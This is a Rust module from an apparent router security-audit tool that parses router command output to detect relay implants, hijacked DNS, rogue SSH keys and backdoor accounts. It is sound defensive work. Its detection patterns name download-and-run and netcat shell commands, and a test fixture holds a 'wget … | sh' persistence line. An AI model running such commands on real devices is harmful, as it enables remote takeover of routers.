//! Checks: command output in, `router_audit` findings out.
//!
//! Why pure functions: the parsing of `/proc/net/tcp`, process lists and
//! crontabs is where the mistakes hide, and it can be tested on text
//! without a router. Each finding carries the command and the output lines
//! it rests on as evidence, and a stable id (router, check, key) so that
//! the same problem seen before and after a reboot is the same finding.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use jiff::Timestamp;
use orbwatch_detect::finding::fnv1a;
use orbwatch_detect::{Evidence, Finding, FindingKind, Severity};

use orbwatch_intel::IndicatorValue;

use crate::inventory::Router;
use crate::profiles;
use crate::ssh::SshOutput;
use crate::vulnerable::{self, Entry};

/// Ports relay implants are known to listen on, and who reported them.
pub const IMPLANT_PORTS: [(u16, &str); 4] = [
    (
        7777,
        "Quad7 / CovertNetwork-1658 relay port (Sekoia, Microsoft); its banner reads 'xlogin:'",
    ),
    (11288, "Quad7 SOCKS5 port (Sekoia, Team Cymru)"),
    (
        63256,
        "port of the Quad7 'alogin' cluster on ASUS routers (Sekoia)",
    ),
    (
        63260,
        "port of the Quad7 'alogin' cluster on ASUS routers (Sekoia)",
    ),
];

/// Management services that should not answer on the WAN side.
pub const MANAGEMENT_PORTS: [(u16, &str); 9] = [
    (22, "SSH"),
    (23, "telnet"),
    (80, "HTTP admin"),
    (443, "HTTPS admin"),
    (7547, "TR-069"),
    (8080, "HTTP admin"),
    (8291, "Winbox"),
    (8443, "HTTPS admin"),
    (8728, "RouterOS API"),
];

/// Everything a check needs besides the output.
pub struct CheckContext<'a> {
    pub router: &'a Router,
    /// SHA-256 (lower-case hex) → feed name, from the store.
    pub hash_indicators: &'a HashMap<String, String>,
    /// Address indicators (single, CIDR, range) with their feed, from the
    /// store.
    pub ip_indicators: &'a [(IndicatorValue, String)],
    pub vulnerable: &'a [Entry],
    /// Public keys that are expected in `authorized_keys` besides the
    /// inventory's (orbwatch's own), as "type base64".
    pub own_keys: &'a [String],
    pub now: Timestamp,
}

/// What a probe's output is, looked up by probe id.
pub type Outputs = BTreeMap<&'static str, SshOutput>;

/// A finding under construction.
struct Raise<'c> {
    ctx: &'c CheckContext<'c>,
    out: Vec<Finding>,
}

impl Raise<'_> {
    #[allow(clippy::too_many_arguments)]
    fn add(
        &mut self,
        check: &str,
        key: &str,
        severity: Severity,
        score: u8,
        reason: String,
        command: &str,
        lines: &[(usize, &str)],
        extra: serde_json::Value,
    ) {
        let r = self.ctx.router;
        let src = format!("{}:{}", r.name, check);
        let mut evidence = vec![Evidence {
            file: src.clone(),
            line: None,
            offset: None,
            format: "router_audit".into(),
            raw: format!("$ {command}"),
            time: Some(self.ctx.now),
            context: false,
        }];
        for (n, l) in lines.iter().take(20) {
            evidence.push(Evidence {
                file: src.clone(),
                line: Some(*n as u64 + 1),
                offset: None,
                format: "router_audit".into(),
                raw: l.chars().take(500).collect(),
                time: Some(self.ctx.now),
                context: false,
            });
        }
        let mut details = serde_json::json!({
            "router": r.name,
            "host": r.host,
            "profile": r.profile.as_str(),
            "check": check,
            "key": key,
        });
        if let (Some(d), Some(e)) = (details.as_object_mut(), extra.as_object()) {
            for (k, v) in e {
                d.insert(k.clone(), v.clone());
            }
        }
        self.out.push(Finding {
            id: finding_id(&r.name, check, key),
            kind: FindingKind::RouterAudit,
            first_seen: Some(self.ctx.now),
            last_seen: Some(self.ctx.now),
            count: 1,
            src_ip: r.host.parse().ok(),
            dst_ip: None,
            ioc: None,
            targets: vec![r.name.clone()],
            accounts: Vec::new(),
            severity: Some(severity),
            score: Some(score),
            reasons: vec![reason],
            sources: Vec::new(),
            details: Some(details),
            evidence_total: lines.len() as u64 + 1,
            evidence,
        });
    }
}

/// The stable id of a router finding.
pub fn finding_id(router: &str, check: &str, key: &str) -> String {
    fnv1a(&["router_audit", router, check, key])
}

/// The `check` name of a router finding (from its details).
pub fn check_of(f: &Finding) -> &str {
    f.details
        .as_ref()
        .and_then(|d| d.get("check"))
        .and_then(|c| c.as_str())
        .unwrap_or("")
}

/// Run every check on the collected output. `banners` holds what orbwatch
/// read when it connected to the router's implant ports itself.
pub fn run_all(
    ctx: &CheckContext<'_>,
    outputs: &Outputs,
    banners: &BTreeMap<u16, String>,
) -> Vec<Finding> {
    let mut r = Raise {
        ctx,
        out: Vec::new(),
    };
    let text = |id: &str| outputs.get(id).map(|o| o.stdout.as_str());
    if let Some(t) = text(profiles::UPTIME.id) {
        check_uptime(&mut r, t);
    }
    if let Some(t) = text(profiles::VERSION.id) {
        check_version(&mut r, t);
    }
    if let Some(t) = text(profiles::LISTENING.id) {
        check_listening(&mut r, t, banners);
        check_connections(&mut r, t);
    }
    let mut exe_of_pid = HashMap::new();
    if let Some(t) = text(profiles::PROCESSES.id) {
        exe_of_pid = check_processes(&mut r, t);
    }
    if let Some(t) = text(profiles::HASHES.id) {
        check_hashes(&mut r, t, &exe_of_pid);
    }
    if let Some(t) = text(profiles::PERSISTENCE.id) {
        check_persistence(&mut r, t);
    }
    if let Some(t) = text(profiles::DNS.id) {
        let uci = text(profiles::UCI_DNS.id).unwrap_or("");
        check_dns(&mut r, t, uci);
    }
    if let Some(t) = text(profiles::AUTHORIZED_KEYS.id) {
        check_authorized_keys(&mut r, t);
    }
    if let Some(t) = text(profiles::ACCOUNTS.id) {
        check_accounts(&mut r, t);
    }
    r.out.sort_by(orbwatch_detect::most_serious_first);
    r.out
}

/// Seconds since boot from `/proc/uptime`.
pub fn uptime_secs(text: &str) -> Option<f64> {
    text.split_whitespace()
        .next()?
        .parse::<f64>()
        .ok()
        .filter(|v| v.is_finite() && *v >= 0.0)
}

fn check_uptime(r: &mut Raise<'_>, t: &str) {
    let Some(up) = uptime_secs(t) else { return };
    let max = r.ctx.router.max_uptime_days.saturating_mul(86_400);
    if up > max as f64 {
        let days = up / 86_400.0;
        r.add(
            "uptime",
            "over_policy",
            Severity::Low,
            20,
            format!(
                "up {days:.1} days, longer than the policy's {} days: a reboot clears implants that live only in memory",
                r.ctx.router.max_uptime_days
            ),
            profiles::UPTIME.command,
            &[(0, t.trim())],
            serde_json::json!({"uptime_secs": up}),
        );
    }
}

fn check_version(r: &mut Raise<'_>, t: &str) {
    let facts = vulnerable::facts(t);
    let lines: Vec<(usize, &str)> = t
        .lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .take(8)
        .collect();
    for e in r.ctx.vulnerable.iter().filter(|e| e.matches(&facts)) {
        let what = format!(
            "{} {}",
            facts.os.as_deref().unwrap_or(""),
            facts.version.as_deref().unwrap_or("")
        );
        r.add(
            "firmware",
            &e.id,
            e.severity(),
            70,
            format!(
                "firmware {} {} is on the known-vulnerable list ({}): {}{}",
                what.trim(),
                facts.model.trim(),
                e.id,
                e.note,
                if e.cves.is_empty() { String::new() } else { format!(" [{}]", e.cves.join(", ")) }
            ),
            profiles::VERSION.command,
            &lines,
            serde_json::json!({"entry": e.id, "cves": e.cves, "campaigns": e.campaigns, "sources": e.sources, "list": e.list}),
        );
    }
}

/// A listening TCP socket from `/proc/net/tcp{,6}`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listener {
    pub addr: IpAddr,
    pub port: u16,
    pub line: usize,
}

/// Parse `/proc/net/tcp` and `/proc/net/tcp6` text; `state` `0A` is LISTEN.
pub fn parse_proc_net_tcp(t: &str, want_state: &str) -> Vec<(IpAddr, u16, IpAddr, u16, usize)> {
    let mut v = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let f: Vec<&str> = line.split_whitespace().collect();
        if f.len() < 4 || !f[0].ends_with(':') {
            continue;
        }
        if !f[3].eq_ignore_ascii_case(want_state) {
            continue;
        }
        let (Some((la, lp)), Some((ra, rp))) = (hex_endpoint(f[1]), hex_endpoint(f[2])) else {
            continue;
        };
        v.push((la, lp, ra, rp, n));
    }
    v
}

fn hex_endpoint(s: &str) -> Option<(IpAddr, u16)> {
    let (a, p) = s.split_once(':')?;
    let port = u16::from_str_radix(p, 16).ok()?;
    let addr = match a.len() {
        8 => IpAddr::V4(Ipv4Addr::from(
            u32::from_str_radix(a, 16).ok()?.swap_bytes(),
        )),
        32 => {
            let mut b = [0u8; 16];
            for i in 0..4 {
                let w = u32::from_str_radix(a.get(i * 8..i * 8 + 8)?, 16).ok()?;
                b[i * 4..i * 4 + 4].copy_from_slice(&w.to_le_bytes());
            }
            let v6 = Ipv6Addr::from(b);
            match v6.to_ipv4_mapped() {
                Some(v4) => IpAddr::V4(v4),
                None => IpAddr::V6(v6),
            }
        }
        _ => return None,
    };
    Some((addr, port))
}

/// The listening sockets of the `listening` probe.
pub fn listeners(t: &str) -> Vec<Listener> {
    parse_proc_net_tcp(t, "0A")
        .into_iter()
        .map(|(addr, port, _, _, line)| Listener { addr, port, line })
        .collect()
}

fn check_listening(r: &mut Raise<'_>, t: &str, banners: &BTreeMap<u16, String>) {
    let lines: Vec<&str> = t.lines().collect();
    let ls = listeners(t);
    let mut seen = BTreeSet::new();
    for l in &ls {
        if !seen.insert((l.port, l.addr)) {
            continue;
        }
        let raw = [(l.line, lines.get(l.line).copied().unwrap_or(""))];
        if let Some((_, who)) = IMPLANT_PORTS.iter().find(|(p, _)| *p == l.port) {
            let banner = banners.get(&l.port).map(|b| b.trim().to_string());
            let xlogin = banner
                .as_deref()
                .is_some_and(|b| b.contains("xlogin") || b.contains("alogin"));
            let (sev, score) = if xlogin {
                (Severity::Critical, 95)
            } else {
                (Severity::High, 75)
            };
            let b = match &banner {
                Some(b) if !b.is_empty() => format!("; it answered {b:?}"),
                _ => "; orbwatch could not read a banner".into(),
            };
            r.add(
                "listening_port",
                &l.port.to_string(),
                sev,
                score,
                format!("TCP port {} listens on {}: {who}{b}", l.port, l.addr),
                profiles::LISTENING.command,
                &raw,
                serde_json::json!({"port": l.port, "address": l.addr, "banner": banner}),
            );
        }
        if let Some(wan) = r.ctx.router.wan_address
            && (l.addr == wan || l.addr.is_unspecified())
            && let Some((_, what)) = MANAGEMENT_PORTS.iter().find(|(p, _)| *p == l.port)
        {
            r.add(
                "wan_management",
                &l.port.to_string(),
                Severity::Medium,
                50,
                format!(
                    "{what} (TCP {}) listens on {} and so on the WAN address {wan}: management must not face the Internet",
                    l.port, l.addr
                ),
                profiles::LISTENING.command,
                &raw,
                serde_json::json!({"port": l.port, "address": l.addr}),
            );
        }
    }
}

/// Does an address indicator cover `ip`?
pub fn indicator_covers(v: &IndicatorValue, ip: IpAddr) -> bool {
    match v {
        IndicatorValue::Ip(a) => *a == ip,
        IndicatorValue::Cidr(net) => net.contains(&ip),
        IndicatorValue::Range { first, last } => {
            first.is_ipv4() == ip.is_ipv4() && *first <= ip && ip <= *last
        }
        _ => false,
    }
}

/// Established or opening TCP connections from the router to an address a
/// feed lists (a relay implant talking to its controller).
fn check_connections(r: &mut Raise<'_>, t: &str) {
    if r.ctx.ip_indicators.is_empty() {
        return;
    }
    let lines: Vec<&str> = t.lines().collect();
    let mut seen = BTreeSet::new();
    for state in ["01", "02"] {
        for (local, lport, remote, rport, n) in parse_proc_net_tcp(t, state) {
            let Some((_, feed)) = r
                .ctx
                .ip_indicators
                .iter()
                .find(|(v, _)| indicator_covers(v, remote))
            else {
                continue;
            };
            if !seen.insert(remote) {
                continue;
            }
            let feed = feed.clone();
            r.add(
                "connection",
                &remote.to_string(),
                Severity::Critical,
                90,
                format!(
                    "the router has a TCP connection {local}:{lport} -> {remote}:{rport} to an address listed by feed {feed:?}"
                ),
                profiles::LISTENING.command,
                &[(n, lines.get(n).copied().unwrap_or(""))],
                serde_json::json!({"remote": remote, "remote_port": rport, "feed": feed, "state": state}),
            );
        }
    }
}

const WRITABLE: [&str; 5] = ["/tmp/", "/var/run/", "/run/", "/dev/shm/", "/var/tmp/"];

fn check_processes(r: &mut Raise<'_>, t: &str) -> HashMap<String, String> {
    let mut exe_of_pid = HashMap::new();
    let mut seen = BTreeSet::new();
    for (n, line) in t.lines().enumerate() {
        let mut f = line.splitn(4, '\t');
        let (Some(pid), Some(exe), comm, cmdline) = (
            f.next(),
            f.next(),
            f.next().unwrap_or(""),
            f.next().unwrap_or(""),
        ) else {
            continue;
        };
        if pid.parse::<u32>().is_err() {
            continue;
        }
        exe_of_pid.insert(pid.to_string(), exe.to_string());
        let raw = [(n, line)];
        let cmd = cmdline.trim();
        if exe.is_empty() {
            continue; // a kernel thread, or a process that ended meanwhile
        }
        let deleted = exe.ends_with(" (deleted)");
        let path = exe.trim_end_matches(" (deleted)");
        if let Some(w) = WRITABLE.iter().find(|w| path.starts_with(*w))
            && seen.insert(("writable", path.to_string()))
        {
            r.add(
                "process_writable_path",
                path,
                Severity::High,
                80,
                format!("process {pid} ({comm}) runs {path}, from {w}, a writable path where implants that live only in memory sit"),
                profiles::PROCESSES.command,
                &raw,
                serde_json::json!({"pid": pid, "exe": exe, "comm": comm}),
            );
        }
        if deleted && seen.insert(("deleted", path.to_string())) {
            r.add(
                "process_deleted_exe",
                path,
                Severity::High,
                80,
                format!("process {pid} ({comm}) runs {path}, which was deleted after it started: implants delete themselves to hide"),
                profiles::PROCESSES.command,
                &raw,
                serde_json::json!({"pid": pid, "exe": exe, "comm": comm}),
            );
        }
        let fake_kthread = (cmd.starts_with('[') && cmd.ends_with(']'))
            || ["kworker", "ksoftirqd", "kthreadd", "migration/", "rcu_"]
                .iter()
                .any(|k| comm.starts_with(k));
        if fake_kthread && seen.insert(("kthread", path.to_string())) {
            r.add(
                "process_fake_kernel_thread",
                path,
                Severity::High,
                85,
                format!("process {pid} calls itself {:?} like a kernel thread, but runs the program {path}: kernel threads have no program", if cmd.is_empty() { comm } else { cmd }),
                profiles::PROCESSES.command,
                &raw,
                serde_json::json!({"pid": pid, "exe": exe, "comm": comm, "cmdline": cmd}),
            );
        }
    }
    exe_of_pid
}

fn check_hashes(r: &mut Raise<'_>, t: &str, exe_of_pid: &HashMap<String, String>) {
    let mut seen = BTreeSet::new();
    for (n, line) in t.lines().enumerate() {
        let Some((hash, path)) = line.split_once(char::is_whitespace) else {
            continue;
        };
        let hash = hash.to_ascii_lowercase();
        if hash.len() != 64 || !hash.bytes().all(|b| b.is_ascii_hexdigit()) {
            continue;
        }
        let path = path.trim_start_matches([' ', '*']);
        let Some(feed) = r.ctx.hash_indicators.get(&hash) else {
            continue;
        };
        // `/proc/N/exe` names a running program: say which.
        let shown = match path
            .strip_prefix("/proc/")
            .and_then(|p| p.strip_suffix("/exe"))
            .and_then(|pid| exe_of_pid.get(pid))
        {
            Some(exe) => format!("{exe} (running as {path})"),
            None => path.to_string(),
        };
        if !seen.insert(hash.clone()) {
            continue;
        }
        let feed = feed.clone();
        r.add(
            "hash_indicator",
            &hash,
            Severity::Critical,
            95,
            format!(
                "{shown} has SHA-256 {hash}, listed by feed {feed:?}: a known implant on the router"
            ),
            profiles::HASHES.command,
            &[(n, line)],
            serde_json::json!({"sha256": hash, "path": path, "feed": feed}),
        );
    }
}

/// Does a persistence line run something suspicious?
pub fn suspicious_persistence(content: &str) -> Option<&'static str> {
    let c = content.trim();
    if c.is_empty() || c.starts_with('#') {
        return None;
    }
    if WRITABLE.iter().any(|w| c.contains(w)) {
        return Some("it runs something from a writable path");
    }
    if c.split(|ch: char| ch.is_whitespace() || ch == ';' || ch == '"' || ch == '\'')
        .any(|tok| {
            tok.starts_with('/')
                && tok
                    .split('/')
                    .any(|seg| seg.starts_with('.') && seg.len() > 1 && seg != "..")
        })
    {
        return Some("it runs something from a hidden path");
    }
    let fetch = ["wget ", "curl ", "tftp ", "ftpget "]
        .iter()
        .any(|f| c.contains(f));
    if fetch
        && (c.contains("| sh") || c.contains("|sh") || c.contains("chmod") || c.contains("| ash"))
    {
        return Some("it downloads and runs a program");
    }
    if c.contains("nc ") && c.contains(" -e ") {
        return Some("it opens a shell over the network");
    }
    None
}

fn check_persistence(r: &mut Raise<'_>, t: &str) {
    for (n, line) in t.lines().enumerate() {
        let Some((file, content)) = line.split_once(':') else {
            continue;
        };
        let Some(why) = suspicious_persistence(content) else {
            continue;
        };
        let kind = if file.contains("cron") {
            "crontab"
        } else if file.ends_with("rc.local") {
            "rc.local"
        } else if file.contains("hotplug") {
            "hotplug script"
        } else {
            "init script"
        };
        r.add(
            "persistence",
            &format!("{file}:{}", content.trim()),
            Severity::High,
            85,
            format!(
                "{kind} {file} survives a reboot and {why}: {:?}",
                content.trim()
            ),
            profiles::PERSISTENCE.command,
            &[(n, line)],
            serde_json::json!({"file": file, "entry": content.trim()}),
        );
    }
}

fn check_dns(r: &mut Raise<'_>, t: &str, uci: &str) {
    let expected = &r.ctx.router.expected_dns;
    if expected.is_empty() {
        return;
    }
    let mut servers: Vec<(IpAddr, usize, &str, &str)> = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let Some((file, content)) = line.split_once(':') else {
            continue;
        };
        let mut w = content.split_whitespace();
        if w.next() == Some("nameserver")
            && let Some(ip) = w.next().and_then(|s| s.parse::<IpAddr>().ok())
        {
            servers.push((ip, n, line, file));
        }
    }
    for (n, line) in uci.lines().enumerate() {
        // dhcp.@dnsmasq[0].server='1.2.3.4' or network.wan.dns='1.2.3.4 5.6.7.8'
        let Some((k, v)) = line.split_once('=') else {
            continue;
        };
        if !(k.ends_with(".server") || k.ends_with(".dns")) {
            continue;
        }
        for tok in v
            .trim_matches(['\'', '"'])
            .split(|c: char| c.is_whitespace() || c == '\'')
        {
            if let Ok(ip) = tok.parse::<IpAddr>() {
                servers.push((ip, n, line, "uci"));
            }
        }
    }
    let mut seen = BTreeSet::new();
    for (ip, n, line, file) in servers {
        // A local resolver (dnsmasq) forwards to the configured upstreams,
        // which the other files and uci name.
        if ip.is_loopback() || expected.contains(&ip) || !seen.insert(ip) {
            continue;
        }
        let command = if file == "uci" {
            profiles::UCI_DNS.command
        } else {
            profiles::DNS.command
        };
        r.add(
            "dns",
            &ip.to_string(),
            Severity::High,
            85,
            format!(
                "DNS server {ip} ({file}) is not one of the expected {}: a hijacked router sends its users to the attacker's resolver",
                expected.iter().map(|e| e.to_string()).collect::<Vec<_>>().join(", ")
            ),
            command,
            &[(n, line)],
            serde_json::json!({"server": ip, "expected": expected}),
        );
    }
}

/// "type base64" of an `authorized_keys` line (options and comment
/// dropped), or `None` for a line that holds no key.
pub fn key_material(line: &str) -> Option<String> {
    let toks: Vec<&str> = line.split_whitespace().collect();
    let i = toks
        .iter()
        .position(|t| t.starts_with("ssh-") || t.starts_with("ecdsa-") || t.starts_with("sk-"))?;
    let b64 = toks.get(i + 1)?;
    Some(format!("{} {}", toks[i], b64))
}

fn check_authorized_keys(r: &mut Raise<'_>, t: &str) {
    let known: BTreeSet<String> = r
        .ctx
        .router
        .authorized_keys
        .iter()
        .chain(r.ctx.own_keys.iter())
        .filter_map(|k| key_material(k))
        .collect();
    for (n, line) in t.lines().enumerate() {
        let Some((file, content)) = line.split_once(':') else {
            continue;
        };
        if content.trim().is_empty() || content.trim_start().starts_with('#') {
            continue;
        }
        let Some(k) = key_material(content) else {
            continue;
        };
        if known.contains(&k) {
            continue;
        }
        let comment = content.split_whitespace().last().unwrap_or("");
        r.add(
            "authorized_key",
            &k,
            Severity::High,
            80,
            format!("{file} lets an unknown key log in ({comment}): not in the inventory's authorized_keys"),
            profiles::AUTHORIZED_KEYS.command,
            &[(n, line)],
            serde_json::json!({"file": file, "key": k}),
        );
    }
}

fn check_accounts(r: &mut Raise<'_>, t: &str) {
    for (n, line) in t.lines().enumerate() {
        let f: Vec<&str> = line.split(':').collect();
        if f.len() < 7 {
            continue;
        }
        if f[2] == "0" && f[0] != "root" {
            r.add(
                "account",
                f[0],
                Severity::High,
                80,
                format!(
                    "account {:?} has user id 0, the powers of root: a classic backdoor account",
                    f[0]
                ),
                profiles::ACCOUNTS.command,
                &[(n, line)],
                serde_json::json!({"account": f[0], "shell": f[6]}),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inventory::Inventory;
    use std::path::Path;

    fn router(extra: &str) -> Router {
        let t = format!(
            "[[router]]\nname='r1'\nhost='192.0.2.10'\nuser='root'\nprofile='busybox'\nexpected_dns=['192.0.2.53']\n{extra}"
        );
        Inventory::parse(&t, Path::new("t.toml"))
            .unwrap()
            .routers
            .remove(0)
    }

    fn run(r: &Router, probe: Probe, text: &str, hashes: &HashMap<String, String>) -> Vec<Finding> {
        let ctx = CheckContext {
            router: r,
            hash_indicators: hashes,
            ip_indicators: &[(
                IndicatorValue::Cidr("203.0.113.0/24".parse().unwrap()),
                "c2-feed".to_string(),
            )],
            vulnerable: &[],
            own_keys: &[],
            now: Timestamp::UNIX_EPOCH,
        };
        let mut o = Outputs::new();
        o.insert(
            probe.id,
            SshOutput {
                command: probe.command.into(),
                status: Some(0),
                stdout: text.into(),
                stderr: String::new(),
            },
        );
        run_all(&ctx, &o, &BTreeMap::from([(7777, "xlogin:".to_string())]))
    }
    use crate::profiles::Probe;

    #[test]
    fn proc_net_tcp_listeners() {
        let t = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:1E61 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1 0000000000000000 100 0 0 10 0\n   1: 0100007F:0035 00000000:0000 0A 0 0 0 0 0\n   2: 0200A8C0:0016 0100A8C0:D2F4 01 0 0 0 0 0\n  sl  local_address                         remote_address                        st\n   0: 00000000000000000000000000000000:2BF8 00000000000000000000000000000000:0000 0A 0\n";
        let l = listeners(t);
        assert_eq!(
            l.iter()
                .map(|l| (l.addr.to_string(), l.port))
                .collect::<Vec<_>>(),
            [
                ("0.0.0.0".to_string(), 7777),
                ("127.0.0.1".to_string(), 53),
                ("::".to_string(), 11256)
            ]
        );
        let r = router("");
        let f = run(&r, profiles::LISTENING, t, &HashMap::new());
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Some(Severity::Critical));
        assert_eq!(check_of(&f[0]), "listening_port");
        let wan = router("wan_address='192.0.2.10'");
        let t2 = format!("{t}   3: 00000000:0016 00000000:0000 0A 0\n");
        let f = run(&wan, profiles::LISTENING, &t2, &HashMap::new());
        assert_eq!(
            f.iter().filter(|f| check_of(f) == "wan_management").count(),
            1
        );
    }

    #[test]
    fn connections_to_feed_addresses() {
        // 10.0.0.2:40000 -> 203.0.113.9:443 established, and one to 198.51.100.1.
        let t = "  sl  local_address rem_address   st\n   0: 0200000A:9C40 097100CB:01BB 01 0\n   1: 0200000A:9C41 016433C6:01BB 01 0\n   2: 0200000A:9C42 097100CB:0050 01 0\n";
        let f = run(&router(""), profiles::LISTENING, t, &HashMap::new());
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(check_of(&f[0]), "connection");
        assert!(
            f[0].reasons[0].contains("203.0.113.9:443"),
            "{}",
            f[0].reasons[0]
        );
        let range = IndicatorValue::Range {
            first: "192.0.2.1".parse().unwrap(),
            last: "192.0.2.9".parse().unwrap(),
        };
        assert!(indicator_covers(&range, "192.0.2.5".parse().unwrap()));
        assert!(!indicator_covers(&range, "192.0.2.10".parse().unwrap()));
        assert!(!indicator_covers(&range, "::1".parse().unwrap()));
    }

    #[test]
    fn processes() {
        let t = "1\t/bin/busybox\tinit\t/sbin/init \n12\t/tmp/.x\t.x\t/tmp/.x \n13\t/usr/bin/dropbear (deleted)\tdropbear\tdropbear \n14\t/usr/sbin/hid\tkworker/0:1\t[kworker/0:1] \n2\t\tkthreadd\t\nbad line\n";
        let f = run(&router(""), profiles::PROCESSES, t, &HashMap::new());
        let mut c: Vec<_> = f.iter().map(check_of).collect();
        c.sort();
        assert_eq!(
            c,
            [
                "process_deleted_exe",
                "process_fake_kernel_thread",
                "process_writable_path"
            ]
        );
    }

    #[test]
    fn hashes_persistence_dns_keys_accounts() {
        let h = "a".repeat(64);
        let hashes = HashMap::from([(h.clone(), "test-feed".to_string())]);
        let t = format!(
            "{h}  /etc/.x/agent\n{h}  /proc/5/exe\n{}  /bin/busybox\nnot a hash\n",
            "b".repeat(64)
        );
        let f = run(&router(""), profiles::HASHES, &t, &hashes);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Some(Severity::Critical));

        let t = "/etc/crontabs/root:*/5 * * * * /etc/.x/agent\n/etc/crontabs/root:# /tmp/comment\n/etc/init.d/boot:mount -t tmpfs tmpfs /tmp\n/etc/rc.local:wget http://x/y -O- | sh\n/etc/rc.local:exit 0\n";
        let f = run(&router(""), profiles::PERSISTENCE, t, &HashMap::new());
        // The hidden-path cron job and the download-and-run are flagged; the
        // init script that mounts /tmp (no program run from it), the
        // comment and `exit 0` are not.
        assert_eq!(f.len(), 2);

        let t = "/etc/resolv.conf:nameserver 203.0.113.66\n/etc/resolv.conf:nameserver 192.0.2.53\n/tmp/resolv.conf:nameserver 127.0.0.1\n/etc/resolv.conf:nameserver bogus\n";
        let f = run(&router(""), profiles::DNS, t, &HashMap::new());
        assert_eq!(f.len(), 1);
        assert!(f[0].reasons[0].contains("203.0.113.66"));

        let t = "/root/.ssh/authorized_keys:ssh-ed25519 AAAAknown admin@corp\n/root/.ssh/authorized_keys:no-pty ssh-rsa AAAAevil x@y\n/root/.ssh/authorized_keys:\n";
        let r = router("authorized_keys=['ssh-ed25519 AAAAknown other-comment']");
        let f = run(&r, profiles::AUTHORIZED_KEYS, t, &HashMap::new());
        assert_eq!(f.len(), 1);
        assert!(f[0].reasons[0].contains("x@y"));

        let t = "root:x:0:0:root:/root:/bin/ash\ntoor:x:0:0::/:/bin/sh\nnobody:x:65534:65534::/:/bin/false\nshort:x\n";
        let f = run(&router(""), profiles::ACCOUNTS, t, &HashMap::new());
        assert_eq!(f.len(), 1);
    }

    #[test]
    fn ids_are_stable_and_garbage_is_quiet() {
        assert_eq!(
            finding_id("a", "dns", "1.2.3.4"),
            finding_id("a", "dns", "1.2.3.4")
        );
        assert_ne!(
            finding_id("a", "dns", "1.2.3.4"),
            finding_id("b", "dns", "1.2.3.4")
        );
        let junk = "\u{0}\u{fffd}:::\t\t\t\n   0: ZZ:ZZ 00:00 0A\n0: 00000000:FFFFFF 0:0 0A\n";
        for p in profiles::Profile::Openwrt.probes() {
            let f = run(&router(""), p, junk, &HashMap::new());
            assert!(f.is_empty(), "{}: {f:?}", p.id);
        }
        assert_eq!(uptime_secs("NaN 1"), None);
        assert_eq!(uptime_secs("12.5 3"), Some(12.5));
    }
}
